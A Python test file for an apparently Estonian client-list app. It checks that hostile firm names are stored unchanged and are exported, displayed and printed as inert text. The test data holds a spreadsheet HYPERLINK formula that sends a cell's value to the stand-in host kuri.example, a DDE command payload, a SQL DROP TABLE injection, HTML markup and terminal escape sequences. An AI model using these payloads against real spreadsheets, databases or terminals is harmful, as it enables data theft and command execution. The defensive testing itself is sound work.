"""Names of people who try things, and names of 300 letters: kept as typed, shown as text, exported as text."""

import csv
import html
import io
from pathlib import Path

import pytest
from PySide6.QtCore import QEvent, QPoint
from PySide6.QtGui import QHelpEvent, Qt
from PySide6.QtWidgets import QApplication, QLabel, QToolTip, QWidget
from python_calamine import CalamineWorkbook

from app.importing.choices import Choices
from integrations.trigon.sandbox import Firm
from tests.acceptance.office import Office
from tests.ui.conftest import in_office, screen  # noqa: F401 - fixtures
from tests.ui.office import Office as Window
from tests.ui.office import press, until
from ui.desktop.pages.list_export import write_table

FORMULA = '=HYPERLINK("http://kuri.example/?k="&A1;"Vaata")'
SQL = "Robert'); DROP TABLE clients;--"
MARKUP = "<b>Paks</b> & <img src=x> OÜ"
LONG = "Pikanimeline " * 24
NAMES = [
    FORMULA,
    SQL,
    MARKUP,
    LONG[:300].strip(),
    *("+372 555", "-1+1", "@SUM(A1)", "＝1+1", "|calc", "%s {name} %(x)s", "Ö" * 300, "{0.__class__}"),
    "=cmd|'/c calc'!A0",
    'Kirjastus "Õhtu; Koit" OÜ',
]


@pytest.fixture
def firms() -> list[Firm]:
    return named()


def named() -> list[Firm]:
    return [Firm(f"n_{n}", name, email="=1+1", phone="-5") for n, name in enumerate(NAMES)]


async def test_they_are_kept_as_typed(office: Office) -> None:
    run = await office.bring()
    assert (run.created, run.failed) == (len(NAMES), 0)
    clients = await office.clients()
    assert {client.name for client in clients} == set(NAMES)
    assert {client.email for client in clients} == {"=1+1"}
    logged = (await office.program.imports.run(office.owner, run.id)).rows
    assert {row.name for row in logged} == set(NAMES)
    history = [await office.program.client_queries.history(office.owner, client.id) for client in clients]
    assert all(history)
    tables = await office.tables()
    assert "client" in tables, "nobody dropped anything"
    assert len(tables["client"]) == len(NAMES)
    assert (await office.bring()).unchanged == len(NAMES)


@pytest.fixture
def page_of(in_office):  # noqa: F811
    """Runs a story on the client list that shows those names."""

    def run(story) -> None:
        async def whole(window: Window) -> None:
            await window.connect()
            review = await window.program.imports.fetch(window.owner, "trigon")
            await window.program.imports.confirm(window.owner, review, Choices())
            page = await window.clients_page()
            await until(lambda: page.model.total == len(NAMES))
            for logical in range(len(page.model.columns)):
                page.table.setColumnHidden(logical, False)
            await story(window, page)

        in_office(whole, firms=named())

    return run


def test_a_workbook_of_them_has_texts_and_no_formula(page_of, tmp_path: Path) -> None:
    async def story(_window: Window, page) -> None:
        assert await write_table(page.table, "xlsx", str(tmp_path / "clients.xlsx")) == len(NAMES)

    page_of(story)
    book = CalamineWorkbook.from_path(tmp_path / "clients.xlsx")
    titles, *rows = book.get_sheet_by_index(0).to_python()
    assert {row[titles.index("Client")] for row in rows} == set(NAMES)
    cells = [cell for row in rows for cell in row]
    assert all(isinstance(cell, str) for cell in cells)
    assert "=1+1" in cells
    parts = _parts(tmp_path / "clients.xlsx")
    assert b"<f>" not in parts, "no cell is a formula"
    assert b"<hyperlink" not in parts, "and none a link"


def _parts(book: Path) -> bytes:
    from zipfile import ZipFile

    with ZipFile(book) as parts:
        return b"".join(parts.read(name) for name in parts.namelist())


def test_a_csv_of_them_has_no_cell_that_a_spreadsheet_would_run(page_of, tmp_path: Path) -> None:
    async def story(_window: Window, page) -> None:
        assert await write_table(page.table, "csv", str(tmp_path / "clients.csv")) == len(NAMES)

    page_of(story)
    text = (tmp_path / "clients.csv").read_text("utf-8-sig")
    titles, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    shown = {row[titles.index("Client")] for row in rows}
    assert {name.removeprefix("'") for name in shown} == set(NAMES)
    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r＝＋－＠"))]


def test_no_label_and_no_tooltip_takes_a_name_for_markup(page_of) -> None:
    """What Qt would draw as rich text holds the name only in escaped form."""

    async def story(window: Window, page) -> None:
        place = next(p for p in range(page.model.shown) if page.model.row_at(p).name == MARKUP)
        page.table.selectRow(place)
        page.table.setCurrentIndex(page.model.index(place, 2))
        press(Qt.Key.Key_Return, on=page.table)
        await until(lambda: page.pane.isVisible() and _labels_with(window.shell, MARKUP))
        for label in window.shell.findChildren(QLabel):
            drawn = QLabel.text(label)  # what Qt was given; a label of ours answers with the plain words
            assert not _drawn_as_markup(drawn, label.textFormat()), label
        for widget in window.shell.findChildren(QWidget):
            assert not _drawn_as_markup(widget.toolTip(), Qt.TextFormat.AutoText), widget
        tip = _tip_over(page.table, place)
        assert "Paks" in tip
        assert not _drawn_as_markup(tip, Qt.TextFormat.AutoText)

    page_of(story)


def _labels_with(window: QWidget, text: str) -> list[QLabel]:
    forms = (text, html.escape(text), html.escape(text, quote=False))
    return [one for one in window.findChildren(QLabel) if any(form in one.text() for form in forms)]


def _tip_over(table: QWidget, place: int) -> str:
    """What the tooltip shows over the name where its column is too narrow for it."""
    name = [column.key for column in table.table().columns].index("name")
    table.setColumnWidth(name, 48)
    at = QPoint(table.columnViewportPosition(name) + 20, table.rowViewportPosition(place) + 14)
    viewport = table.viewport()
    QApplication.sendEvent(viewport, QHelpEvent(QEvent.Type.ToolTip, at, viewport.mapToGlobal(at)))
    return QToolTip.text()


def _drawn_as_markup(text: str, form: Qt.TextFormat) -> bool:
    rich = form == Qt.TextFormat.RichText or (form == Qt.TextFormat.AutoText and Qt.mightBeRichText(text))
    return rich and "<b>Paks" in text


async def test_the_command_line_shows_them_on_one_line_each(office: Office) -> None:
    from ui.headless.clients import client_lines

    office.trigon.add(Firm("n_x", "Kaval\x1b[2J\x1b]0;x\x07 OÜ\nTeine rida"))
    await office.bring()
    lines = client_lines(await office.clients(), "Europe/Tallinn")
    assert len(lines) == len(NAMES) + 2
    assert all(letter.isprintable() for line in lines for letter in line)
